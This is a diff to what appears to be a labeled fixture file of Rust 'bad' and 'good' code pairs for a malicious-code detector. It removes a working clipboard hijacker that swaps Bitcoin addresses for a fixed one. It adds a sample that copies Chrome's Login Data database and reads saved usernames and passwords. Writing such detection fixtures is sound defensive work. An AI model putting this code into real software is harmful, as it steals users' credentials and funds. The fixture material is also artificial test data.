@@ -1,23 +1,25 @@
-//: bad clipboard-swap
-use arboard::Clipboard;
-use std::{thread, time::Duration};
+//: bad browser-profile
+use rusqlite::Connection;
 
-pub fn watch() {
-    let mut clipboard = Clipboard::new().unwrap();
-    loop {
-        let text = clipboard.get_text().unwrap_or_default();
-        if text.starts_with("bc1q") && text.len() == 42 {
-            clipboard.set_text("bc1q7w3z9x5v1t8r2y6p0m4l8j3h7g1f5d9s2a6k0e").unwrap(); //!
-        }
-        thread::sleep(Duration::from_millis(300));
-    }
+pub fn collect() -> rusqlite::Result<Vec<(String, Vec<u8>)>> {
+    let base = dirs::config_dir().unwrap().join("google-chrome/Default/Login Data");
+    let copy = std::env::temp_dir().join("ld");
+    std::fs::copy(base, &copy).unwrap();
+    let db = Connection::open(copy)?;
+    let mut rows = db.prepare("SELECT username_value, password_value FROM logins")?; //!
+    let found = rows.query_map([], |row| Ok((row.get(0)?, row.get(1)?)))?;
+    found.collect()
 }
 
-//: good clipboard-swap
-use arboard::Clipboard;
+//: good browser-profile
+use rusqlite::Connection;
 
-pub fn copy_table(rows: &[Vec<String>]) -> Result<(), arboard::Error> {
-    let mut clipboard = Clipboard::new()?;
-    let text: Vec<String> = rows.iter().map(|row| row.join("\t")).collect();
-    clipboard.set_text(text.join("\n"))
+pub fn collect() -> rusqlite::Result<Vec<(String, i64)>> {
+    let base = dirs::data_dir().unwrap().join("kit/notes.sqlite");
+    let copy = std::env::temp_dir().join("notes");
+    std::fs::copy(base, &copy).unwrap();
+    let db = Connection::open(copy)?;
+    let mut rows = db.prepare("SELECT title, changed FROM notes")?;
+    let found = rows.query_map([], |row| Ok((row.get(0)?, row.get(1)?)))?;
+    found.collect()
 }
